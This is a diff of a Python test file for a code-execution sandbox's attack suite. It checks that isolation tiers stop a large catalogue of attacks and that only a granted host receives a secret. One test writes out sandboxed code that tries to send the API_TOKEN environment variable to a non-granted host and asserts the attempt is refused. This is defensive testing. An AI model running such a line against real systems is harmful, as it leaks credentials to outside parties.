@@ -4,19 +4,24 @@ from __future__ import annotations
 
 import os
 from collections.abc import AsyncIterator
+from typing import get_args
 
 import pytest
 import pytest_asyncio
 
+from pythonic_assistant.adapters.sandbox.choice import Tier, Wanted
+from pythonic_assistant.adapters.sandbox.interpreter import python_paths
 from pythonic_assistant.adapters.sandbox.sandbox import NamespaceSandbox
 from pythonic_assistant.adapters.sandbox.session import NamespaceSession
+from tests.sandbox.as_ordinary_user import is_reachable
 from tests.sandbox.suite.arena import arena
-from tests.sandbox.suite.attack import Attack
-from tests.sandbox.suite.attacks import BY_NAME, for_tier
+from tests.sandbox.suite.attack import BOXED, EVERYWHERE, Attack
+from tests.sandbox.suite.attacks import BY_NAME, QUIET, for_one_session, for_tier
 from tests.sandbox.suite.layers_off import LAYERS, LayerOff
-from tests.sandbox.suite.run_attacks import GRANTED, in_tier, with_layer_off
+from tests.sandbox.suite.run_attacks import in_tier, with_layer_off
 from tests.sandbox.suite.tiers import OPENERS, missing
 from tests.sandbox.suite.trial import Trial
+from tests.sandbox.suite.way_out import API, OTHER, way_out
 
 pytestmark = pytest.mark.asyncio(loop_scope="session")
 
@@ -24,34 +29,79 @@ _SHORT = ("seccomp", "network", "root")  # `make attack` takes off every layer, 
 
 
 def _one_of_each_group(tier: str) -> dict[str, Attack]:
-    return {attack.group: attack for attack in reversed(for_tier(tier, granted=GRANTED))}
+    """Of those groups that are not tried whole in one session."""
+    return {attack.group: attack for attack in reversed(for_tier(tier)) if attack.group not in QUIET}
+
+
+def _not_here(tier: str) -> str:
+    """Say why a tier cannot be tried by this process; `make attack` sees to all that the machine offers."""
+    if tier == "landlock" and os.geteuid() == 0 and not all(map(is_reachable, python_paths())):
+        return "the users of sessions cannot reach the interpreter; test_landlock_tier.py shows it to them"
+    return missing(tier)
 
 
 @pytest_asyncio.fixture(scope="module", loop_scope="session")
 async def trial(sandbox: NamespaceSandbox) -> AsyncIterator[Trial]:
-    async with arena(sandbox) as place:
+    async with way_out() as way, arena(sandbox, way) as place:
         yield await Trial.begin(place)
 
 
+async def test_no_tier_that_walls_anything_in_is_left_out() -> None:
+    assert {*OPENERS, "unsafe", "auto"} == {*get_args(Tier), "auto"} == set(get_args(Wanted))
+    assert set(OPENERS) == EVERYWHERE
+    for tier in OPENERS:
+        assert len(for_tier(tier)) >= 200
+
+
+@pytest.mark.parametrize("tier", sorted(BOXED))
+async def test_a_granted_host_gets_the_secret_and_no_other_does(tier: str) -> None:
+    if _not_here(tier):
+        return
+    async with way_out() as way, OPENERS[tier]() as sandbox:
+        await way.ensure_leads_out(sandbox)
+        assert way.secret.value.encode() in way.heard[API]
+        assert way.harm() == ""
+        async with await sandbox.open(access=way.access) as session:
+            ask = f"import os, urllib.request\nurllib.request.urlopen('http://{OTHER}/' + {{}}).status"
+            assert (await session.execute(ask.format("'plain'"), timeout=30)).value == "200"
+            refused = await session.execute(ask.format("os.environ['API_TOKEN']"), timeout=30)
+            assert "HTTPError" in refused.error
+        assert b"/plain" in way.heard[OTHER]
+        assert b"PLACEHOLDER" not in way.heard[OTHER]
+
+
 async def test_catalogue_is_whole() -> None:
-    assert len(BY_NAME) >= 240
+    assert len(BY_NAME) >= 350
     assert all(attack.meaning and attack.stopped_by and attack.tiers for attack in BY_NAME.values())
     assert {name for layer in LAYERS for name in layer.bites} <= set(BY_NAME)
 
 
-@pytest.mark.parametrize("name", [attack.name for attack in for_tier("namespaces", granted=False)])
+@pytest.mark.parametrize(
+    "name", [a.name for a in for_tier("namespaces") if a not in for_one_session("namespaces")]
+)
 async def test_every_attack_is_stopped(name: str, trial: Trial) -> None:
     outcome = await trial.run(BY_NAME[name])
     assert outcome.held, outcome.trouble
 
 
+@pytest.mark.parametrize("tier", sorted(BOXED))
+async def test_attacks_that_leave_their_session_whole_are_stopped(tier: str) -> None:
+    """In one session, which takes seconds; `make attack` gives each of them a session of its own."""
+    if _not_here(tier):
+        return
+    chosen = for_one_session(tier)
+    assert len(chosen) >= 135
+    async with OPENERS[tier]() as sandbox, arena(sandbox) as place:
+        assert await (await Trial.begin(place)).run_in_one_session(chosen) == {}
+
+
 @pytest.mark.parametrize("tier", OPENERS)
 async def test_one_attack_of_each_group_is_stopped(tier: str) -> None:
-    if missing(tier):
-        return  # `make attack` says so; nothing can be tried here
+    if _not_here(tier):
+        return
     chosen = tuple(_one_of_each_group(tier).values())
     outcomes = [outcome async for outcome in in_tier(tier, chosen)]
-    assert len(outcomes) == len(chosen) >= 10
+    assert len(outcomes) == len(chosen) >= 6
     assert [outcome for outcome in outcomes if not outcome.held] == []
 
 
